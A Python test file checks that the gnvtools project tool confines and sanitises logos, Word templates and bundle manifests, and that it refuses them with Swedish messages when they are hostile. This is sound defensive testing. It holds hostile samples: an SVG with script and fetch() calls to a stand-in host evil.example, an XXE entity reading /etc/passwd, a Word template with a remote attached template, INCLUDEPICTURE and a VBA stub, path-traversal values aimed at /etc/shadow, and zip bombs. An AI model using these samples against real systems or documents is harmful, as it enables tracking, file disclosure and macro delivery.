"""Files from someone else stay data and stay in the project: the logo, the Word template and
what ``gnv bundle`` takes (issue 18, item 6 and the "files outside the project" cases).

Every hostile case is refused with a Swedish message naming gnv.yaml (or the manifest), the
key and what to do, exit 2; nothing hangs (a FIFO, /dev/zero) and nothing is copied. The tests
run as root, so none relies on file permissions.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import stat
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pytest

from gnvtools.errors import InputError
from gnvtools.project.config import load_project
from gnvtools.publish.confine import read_regular
from gnvtools.publish.style import Style
from gnvtools.reports.document import Document as Blocks
from gnvtools.reports.document import Heading, Paragraph

from .conftest import run_cli

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE_SVG = b"""<?xml version="1.0"?>
<?xml-stylesheet href="http://evil.example/pi.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="10" height="10" onload="fetch('http://evil.example/x')">
  <script>alert(1)</script>
  <rect width="10" height="10" fill="#0b4f8a" onclick="alert(2)"/>
  <image xlink:href="http://evil.example/track.png" width="1" height="1"/>
  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <a href="javascript:alert(3)"><circle r="2" style="fill:url(http://evil.example/p#g)"/></a>
  <use href="#inner"/><g id="inner"/>
  <style>@import url(http://evil.example/s.css); rect { stroke: black; }</style>
  <set attributeName="href" to="http://evil.example/"/>
</svg>
"""


def project(tmp_path: Path, config: str) -> Path:
    """A project folder holding ``gnv.yaml`` with ``config``."""
    root = tmp_path / "projekt"
    root.mkdir(exist_ok=True)
    (root / "gnv.yaml").write_text(config, encoding="utf-8")
    return root


def refused(root: Path) -> str:
    """The message ``load_project`` refuses the project with."""
    with pytest.raises(InputError) as caught:
        load_project(root / "gnv.yaml")
    message = str(caught.value)
    assert "gnv.yaml" in message and "Traceback" not in message
    return message


_MAIN = "import sys; from gnvtools.cli import main; sys.exit(main(sys.argv[1:]))"


def gnv_in_subprocess(
    root: Path, *args: str, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    """``gnv`` in its own process, so a read that would block fails the test instead of hanging."""
    return subprocess.run(
        [sys.executable, "-c", _MAIN, *args],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


# --- the logo ---------------------------------------------------------------------------------


def test_a_logo_up_the_tree_is_refused_not_embedded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = project(tmp_path, "brand:\n  logo: ../../../../etc/shadow\n")
    monkeypatch.chdir(root)
    code, _, err = run_cli(capsys, "build", "--quiet")
    assert code == 2
    assert 'gnv.yaml, rad 2, nyckel "brand.logo"' in err
    assert "utanför projektmappen" in err and "kopiera filen till projektmappen" in err
    assert "internt fel" not in err


def test_an_absolute_logo_outside_the_project_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "annan"
    outside.mkdir()
    (outside / "logo.png").write_bytes(PNG)
    root = project(tmp_path, f"brand:\n  logo: {outside / 'logo.png'}\n")
    assert "utanför projektmappen" in refused(root)


def test_a_symlinked_logo_pointing_outside_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "hemlig.png"
    outside.write_bytes(PNG)
    root = project(tmp_path, "brand:\n  logo: logo.png\n")
    (root / "logo.png").symlink_to(outside)
    assert "utanför projektmappen" in refused(root)
    (root / "zero.png").symlink_to("/dev/zero")
    (root / "gnv.yaml").write_text("brand:\n  logo: zero.png\n", encoding="utf-8")
    assert "utanför projektmappen" in refused(root)


def test_an_absolute_logo_inside_the_project_is_fine(tmp_path: Path) -> None:
    root = project(tmp_path, "")
    (root / "logo.png").write_bytes(PNG)
    (root / "gnv.yaml").write_text(f"brand:\n  logo: {root / 'logo.png'}\n", encoding="utf-8")
    loaded = load_project(root / "gnv.yaml")
    assert loaded.logo == (root / "logo.png").resolve() and loaded.notes == ()
    assert 'src="data:image/png;base64,' in loaded.style().logo_html()


def test_a_fifo_logo_is_refused_without_hanging(tmp_path: Path) -> None:
    root = project(tmp_path, "brand:\n  logo: logo.png\n")
    os.mkfifo(root / "logo.png")
    result = gnv_in_subprocess(root, "build", "--quiet")
    assert result.returncode == 2, result.stderr
    assert 'nyckel "brand.logo"' in result.stderr and "FIFO" in result.stderr
    assert "internt fel" not in result.stderr


def test_a_device_logo_is_refused_without_reading(tmp_path: Path) -> None:
    # /dev/zero itself: read_regular looks before it reads (an endless read would hang here)
    with pytest.raises(InputError, match="enhetsfil"):
        read_regular(Path("/dev/zero"), 2_000_000)
    root = project(tmp_path, "brand:\n  logo: zero.png\n")
    try:  # a device node inside the project, where the container allows making one
        os.mknod(root / "zero.png", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    except OSError:
        pytest.skip("no device nodes can be made here")
    result = gnv_in_subprocess(root, "build", "--quiet")
    assert result.returncode == 2 and "enhetsfil" in result.stderr, result.stderr


def test_a_directory_as_logo_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, "brand:\n  logo: bilder\n")
    (root / "bilder").mkdir()
    assert "en mapp, inte en vanlig fil" in refused(root)


def test_a_60_mb_logo_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, "brand:\n  logo: stor.png\n")
    with open(root / "stor.png", "wb") as handle:  # sparse: 60 MB without writing them
        handle.write(PNG)
        handle.truncate(60_000_000)
    message = refused(root)
    assert "större än 2 MB" in message and "högst 2 MB" in message


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"Det h\xe4r \xe4r ingen bild.\n", "ingen bild"),
        (b"%PDF-1.7\n", "ingen bild"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "bilden är skadad"),
        (b"<svg>not xml", "inte giltig XML"),
        (b"<?xml version='1.0'?><html/>", "ingen bild"),
    ],
)
def test_a_logo_that_is_no_image_is_refused(tmp_path: Path, content: bytes, expected: str) -> None:
    root = project(tmp_path, "brand:\n  logo: logo.png\n")
    (root / "logo.png").write_bytes(content)
    message = refused(root)
    assert expected in message and "PNG-, JPEG- eller SVG-bild" in message
    # a Style made by hand (a notebook) meets the same check, not an error inside Word
    with pytest.raises(InputError):
        Style(logo=root / "logo.png").logo_html()


def _jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 3), "#0b4f8a").save(buffer, "JPEG")
    return buffer.getvalue()


@pytest.mark.parametrize("kind", ["png", "jpeg"])
def test_every_truncated_picture_is_refused_or_readable_by_word(kind: str) -> None:
    from docx.image.image import Image

    from gnvtools.publish.logo import check_logo

    whole = PNG if kind == "png" else _jpeg()
    assert check_logo(whole, for_word=True).mime == f"image/{kind}"
    for end in range(len(whole)):
        try:
            logo = check_logo(whole[:end], for_word=True)
        except InputError as exc:
            assert "skadad" in exc.message or "ingen bild" in exc.message
            continue
        Image.from_blob(logo.data)  # what the Word renderer does with it: no exception


def _text_only() -> Blocks:
    return Blocks([Paragraph.of("Text")])


def test_a_damaged_jpeg_is_refused_before_word(tmp_path: Path) -> None:
    from gnvtools.publish.word import document_to_docx

    damaged = _jpeg()[:-200]  # the header and frame are there, the rest is cut off
    root = project(tmp_path, "brand:\n  logo: logo.jpg\n")
    (root / "logo.jpg").write_bytes(damaged)
    style = load_project(root / "gnv.yaml").style()
    try:
        style.logo_html()
    except InputError as exc:
        assert "skadad" in exc.message
        return
    document_to_docx(_text_only(), "Titel", style)  # accepted for Word only when Word can place it


def test_a_non_image_logo_never_reaches_word(tmp_path: Path) -> None:
    from gnvtools.publish.word import document_to_docx

    (tmp_path / "logo.png").write_text("ingen bild", encoding="utf-8")
    style = Style(logo=tmp_path / "logo.png")
    with pytest.raises(InputError, match="ingen bild"):
        style.logo_html()
    with pytest.raises(InputError, match="ingen bild"):
        document_to_docx(_text_only(), "Titel", style)


def test_an_svg_logo_is_embedded_without_scripts_or_external_links(tmp_path: Path) -> None:
    root = project(tmp_path, "brand:\n  logo: logo.svg\n")
    (root / "logo.svg").write_bytes(HOSTILE_SVG)
    loaded = load_project(root / "gnv.yaml")
    (note,) = loaded.notes
    assert note.startswith("Logotypen logo.svg: följande togs bort")
    assert "skript" in note and "händelseattribut" in note and "foreignObject" in note
    html = loaded.style().logo_html()
    found = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', html)
    assert found
    svg = base64.b64decode(found.group(1)).decode("utf-8")
    for hostile in ("script", "onload", "onclick", "evil.example", "javascript:", "foreignObject"):
        assert hostile not in svg
    assert 'href="#inner"' in svg and 'fill="#0b4f8a"' in svg  # the picture itself is kept


def test_an_svg_with_entities_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, "brand:\n  logo: logo.svg\n")
    (root / "logo.svg").write_bytes(
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'
    )
    assert "entiteter" in refused(root)


# --- the Word template ------------------------------------------------------------------------

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_template() -> bytes:
    """A real Word document with a remote attached template, an external image and link in
    the header, a field that fetches a picture, and a VBA project."""
    from docx import Document

    document = Document()
    document.sections[0].header.paragraphs[0].text = "Äldreförvaltningen – mall"
    buffer = io.BytesIO()
    document.save(buffer)
    source = zipfile.ZipFile(buffer)
    parts = {name: source.read(name) for name in source.namelist()}
    header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="x"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:blipFill><a:blip r:link="rIdEvilImage"/></pic:blipFill></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
        '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t>Webb</w:t></w:r></w:hyperlink>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/f.png&quot; \\d ">'
        "<w:r><w:t>bild</w:t></w:r></w:fldSimple>"
    )
    text = parts[header].decode("utf-8")
    if 'xmlns:r="' not in text:
        text = text.replace("<w:hdr ", f'<w:hdr xmlns:r="{_REL}" ', 1)
    parts[header] = text.replace("</w:p>", drawing + "</w:p>", 1).encode("utf-8")
    rels = parts.get(
        header_rels,
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    parts[header_rels] = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rIdEvilImage" Type="{_REL}/image" '
        'Target="http://evil.example/header.png" TargetMode="External"/>'
        f'<Relationship Id="rIdEvilLink" Type="{_REL}/hyperlink" '
        'Target="http://evil.example/" TargetMode="External"/></Relationships>'.encode(),
    )
    settings = parts["word/settings.xml"].decode("utf-8")
    if 'xmlns:r="' not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{_REL}" ', 1)
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings)
    parts["word/settings.xml"] = settings.encode("utf-8")
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{_REL}/attachedTemplate" '
        'Target="http://evil.example/mall.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    parts["word/vbaProject.bin"] = b'\xd0\xcf\x11\xe0 Attribute VB_Name = "Evil"'
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
        1,
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def assert_clean_docx(data: bytes) -> None:
    """Read a produced .docx back: no external relationship, attached template or macro."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = archive.namelist()
    assert not [n for n in names if "vba" in n.lower()]
    for name in names:
        content = archive.read(name)
        assert b'TargetMode="External"' not in content, name
        assert b"attachedTemplate" not in content, name
        assert b"evil.example" not in content, name
        assert b"vbaProject" not in content, name
        assert b"macroEnabled" not in content, name


def test_the_hostile_template_is_hostile() -> None:
    data = hostile_template()
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert "word/vbaProject.bin" in names
    with pytest.raises(AssertionError):
        assert_clean_docx(data)


def test_the_template_is_cleaned_and_the_user_told(tmp_path: Path) -> None:
    from docx import Document

    from gnvtools.publish.word import document_to_docx

    root = project(tmp_path, "word_template: mallar/mall.dotx\n")
    (root / "mallar").mkdir()
    (root / "mallar/mall.dotx").write_bytes(hostile_template())
    loaded = load_project(root / "gnv.yaml")
    (note,) = loaded.notes
    assert note.startswith("Word-mallen mallar/mall.dotx: följande togs bort")
    assert "bifogad mall (attachedTemplate) (http://evil.example/mall.dotm)" in note
    assert "extern bild" in note and "extern länk" in note and "makron (vbaProject.bin)" in note
    assert "INCLUDEPICTURE" in note
    blocks = Blocks([Heading(2, "Rubrik", "rubrik"), Paragraph.of("Text")])
    data = document_to_docx(blocks, "Titel", loaded.style())
    assert_clean_docx(data)
    document = Document(io.BytesIO(data))
    assert document.sections[0].header.paragraphs[0].text.startswith("Äldreförvaltningen – mall")
    assert [p.text for p in document.paragraphs] == ["Rubrik", "Text"]


@pytest.mark.parametrize(
    ("main", "removed"),
    [
        (
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            ("makron (makroaktiverad mall)",),
        ),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", ()),
    ],
)
def test_a_template_main_part_is_made_a_plain_document(main: str, removed: tuple[str, ...]) -> None:
    from docx import Document

    from gnvtools.publish.docx_template import sanitise

    buffer = io.BytesIO()
    Document().save(buffer)
    source = zipfile.ZipFile(buffer)
    parts = {name: source.read(name) for name in source.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        main.encode(),
    )
    clean = sanitise(_zip(parts))
    assert clean.removed == removed
    assert_clean_docx(clean.data)
    Document(io.BytesIO(clean.data))  # python-docx opens it


def test_a_clean_template_gives_no_note(tmp_path: Path) -> None:
    from docx import Document

    root = project(tmp_path, "word_template: mall.docx\n")
    Document().save(str(root / "mall.docx"))
    assert load_project(root / "gnv.yaml").notes == ()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in entries.items():
            target.writestr(name, data)
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: the point here
        target.writestr("[Content_Types].xml", b"<Types/>")
        target.writestr("[Content_Types].xml", b"<Types/>")
    return out.getvalue()


def _lying_zip() -> bytes:
    """A zip whose central directory says an entry is smaller than it is."""
    data = bytearray(_zip({"[Content_Types].xml": b"<Types/>" * 1000}))
    central = data.rindex(b"PK\x01\x02")
    data[central + 24 : central + 28] = (100).to_bytes(4, "little")  # uncompressed size
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("mall.docm", b"", "med makron (.docm)"),
        ("mall.doc", b"", "i fel format (.doc)"),
        ("mall.docx", b"ingen zip", "ingen giltig .docx-fil"),
        ("mall.docx", _zip({"[Content_Types].xml": b"\0" * 50_000_000}), "zip-bomb"),
        ("mall.docx", _zip({f"{i}.xml": b"" for i in range(2_001)}), "fler än 2000 delar"),
        ("mall.docx", _lying_zip(), "ingen giltig .docx-fil"),
        ("mall.docx", _twice(), "förekommer två gånger"),
        ("mall.docx", _zip({"word/document.xml": b"<x/>"}), "[Content_Types].xml saknas"),
    ],
)
def test_a_broken_or_oversized_template_is_refused(
    tmp_path: Path, name: str, content: bytes, expected: str
) -> None:
    root = project(tmp_path, f"word_template: {name}\n")
    (root / name).write_bytes(content)
    message = refused(root)
    assert 'nyckel "word_template"' in message and expected in message
    assert "Word-mall (.dotx eller .docx)" in message


def test_a_template_outside_or_too_large_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, "word_template: ../mall.docx\n")
    (tmp_path / "mall.docx").write_bytes(hostile_template())
    assert "utanför projektmappen" in refused(root)
    (root / "gnv.yaml").write_text("word_template: stor.docx\n", encoding="utf-8")
    with open(root / "stor.docx", "wb") as handle:
        handle.truncate(11_000_000)
    assert "större än 10 MB" in refused(root)


# --- gnv bundle -------------------------------------------------------------------------------


def bundle_project(tmp_path: Path, *, project_field: str = "../../..", params: str = "") -> Path:
    """A project with one hand-written manifest under outputs/org/2025 (no kernel needed)."""
    root = project(tmp_path, "")
    data = root / "parameters/org"
    data.mkdir(parents=True)
    (data / "2025.yaml").write_text("year: 2025\n", encoding="utf-8")
    (data / "data.csv").write_text("namn,antal\nA,1\n", encoding="utf-8")
    out = root / "outputs/org/2025"
    out.mkdir(parents=True)
    (out / "allocation-memo.html").write_text("<p>rapport</p>", encoding="utf-8")
    manifest = {
        "report": "allocation-memo",
        "project": project_field,
        "params": {"path": params or "parameters/org/2025.yaml", "sha256": "0"},
        "inputs": [
            {"path": params or "parameters/org/2025.yaml", "sha256": "0"},
            {"path": "parameters/org/data.csv", "sha256": "0"},
        ],
        "outputs": [{"format": "html", "path": "allocation-memo.html", "sha256": "0"}],
        "tables": [],
    }
    (out / "allocation-memo.manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return root


def _manifest(root: Path) -> Path:
    return root / "outputs/org/2025/allocation-memo.manifest.json"


def _edit_manifest(root: Path, **changes: object) -> None:
    data = json.loads(_manifest(root).read_text(encoding="utf-8"))
    data.update(changes)
    _manifest(root).write_text(json.dumps(data), encoding="utf-8")


def _bundle(
    capsys: pytest.CaptureFixture[str], root: Path, monkeypatch: pytest.MonkeyPatch
) -> tuple[int, str, Path]:
    monkeypatch.chdir(root)
    zip_path = root / "paket.zip"
    code, _, err = run_cli(capsys, "bundle", "outputs", "--out", str(zip_path))
    assert "internt fel" not in err and "Traceback" not in err
    return code, err, zip_path


def _safe_names(zip_path: Path) -> list[str]:
    names = zipfile.ZipFile(zip_path).namelist()
    for name in names:
        assert not name.startswith("/") and ".." not in name.split("/") and "\\" not in name
    return names


def test_bundle_takes_only_the_projects_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = bundle_project(tmp_path)
    (root / "logo.png").write_bytes(PNG)
    (root / "gnv.yaml").write_text(f"brand:\n  logo: {root / 'logo.png'}\n", encoding="utf-8")
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 0, err  # an absolute logo inside the project: bundled by its relative name
    names = _safe_names(zip_path)
    assert "underlag/logo.png" in names and "underlag/parameters/org/data.csv" in names
    assert "rapporter/org/2025/allocation-memo.html" in names


def test_bundle_refuses_a_logo_outside_the_project(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = bundle_project(tmp_path)
    (tmp_path / "logo.png").write_bytes(PNG)
    for logo in (str(tmp_path / "logo.png"), "../logo.png", "../../../../etc/shadow"):
        (root / "gnv.yaml").write_text(f"brand:\n  logo: {logo}\n", encoding="utf-8")
        code, err, zip_path = _bundle(capsys, root, monkeypatch)
        assert code == 2 and "utanför projektmappen" in err and 'nyckel "brand.logo"' in err
        assert not zip_path.exists()


def test_bundle_refuses_a_manifest_that_points_at_the_machine(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = bundle_project(tmp_path)
    rel = os.path.relpath("/", root / "outputs/org/2025")
    _edit_manifest(
        root,
        project=rel,
        params={"path": "etc/passwd", "sha256": "0"},
        inputs=[{"path": "etc/passwd", "sha256": "0"}, {"path": "etc/shadow", "sha256": "0"}],
    )
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 2 and "allocation-memo.manifest.json" in err
    assert not zip_path.exists()
    # and should the manifest's root be taken as "/" after all, bundle still refuses it
    from gnvtools.publish import bundle

    monkeypatch.setattr(bundle, "manifest_root", lambda manifest, folder: Path("/"))
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 2 and "inte är projektet" in err and not zip_path.exists()


@pytest.mark.parametrize("target", ["/etc/shadow", "/etc/passwd", "/dev/zero"])
def test_bundle_refuses_an_input_linked_out_of_the_project(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    target: str,
) -> None:
    root = bundle_project(tmp_path)
    (root / "parameters/org/data.csv").unlink()
    (root / "parameters/org/data.csv").symlink_to(target)
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 2 and "underlaget parameters/org/data.csv ligger utanför" in err
    assert not zip_path.exists()


def test_bundle_refuses_a_fifo_input_and_a_linked_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = bundle_project(tmp_path)
    (root / "parameters/org/data.csv").unlink()
    os.mkfifo(root / "parameters/org/data.csv")
    result = gnv_in_subprocess(root, "bundle", "outputs", "--out", "paket.zip")
    assert result.returncode == 2 and "FIFO" in result.stderr, result.stderr
    (root / "parameters/org/data.csv").unlink()
    (root / "parameters/org/data.csv").write_text("namn,antal\nA,1\n", encoding="utf-8")
    report = root / "outputs/org/2025/allocation-memo.html"
    report.unlink()
    report.symlink_to("/etc/shadow")
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 2 and "rapporten allocation-memo.html ligger utanför" in err
    assert not zip_path.exists()


def test_bundle_entry_names_are_plain_relative_paths() -> None:
    from gnvtools.publish.bundle import entry_name

    assert entry_name("underlag", "parameters/org/data.csv") == "underlag/parameters/org/data.csv"
    for bad in ("../etc/shadow", "/etc/shadow", "a/../../b", "a//b", "C:/x", "a\\..\\b", "a/./b"):
        with pytest.raises(InputError, match="otillåtet filnamn"):
            entry_name("underlag", bad)


# --- end to end -------------------------------------------------------------------------------


@pytest.mark.slow
def test_render_on_a_hostile_template_and_logo_gives_clean_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from docx import Document

    from .conftest import PARAMS

    root = project(tmp_path, "word_template: mall.dotx\nbrand:\n  logo: logo.svg\n")
    (root / "mall.dotx").write_bytes(hostile_template())
    (root / "logo.svg").write_bytes(HOSTILE_SVG)
    shutil.copytree(PARAMS / "jamtland", root / "parameters/jamtland")
    monkeypatch.chdir(root)
    code, _, err = run_cli(
        capsys,
        "render",
        "allocation-memo",
        "parameters/jamtland/2025.yaml",
        "--to",
        "html,docx",
        "--out",
        "ut",
    )
    assert code == 0, err
    assert err.count("Word-mallen mall.dotx: följande togs bort") == 1  # told once
    assert err.count("Logotypen logo.svg: följande togs bort") == 1
    html = (root / "ut/allocation-memo.html").read_text(encoding="utf-8")
    found = re.search(r'class="brand-logo" src="data:image/svg\+xml;base64,([^"]+)"', html)
    assert found and b"script" not in base64.b64decode(found.group(1))
    data = (root / "ut/allocation-memo.docx").read_bytes()
    assert_clean_docx(data)
    document = Document(io.BytesIO(data))
    assert document.sections[0].header.paragraphs[0].text.startswith("Äldreförvaltningen – mall")
    assert "[Diagram:" not in "\n".join(p.text for p in document.paragraphs)


def test_bundle_refuses_a_manifest_linked_from_elsewhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = bundle_project(tmp_path)
    planted = tmp_path / "planted.manifest.json"
    _manifest(root).rename(planted)
    _manifest(root).symlink_to(planted)
    code, err, zip_path = _bundle(capsys, root, monkeypatch)
    assert code == 2 and "länk ut ur mappen" in err and not zip_path.exists()
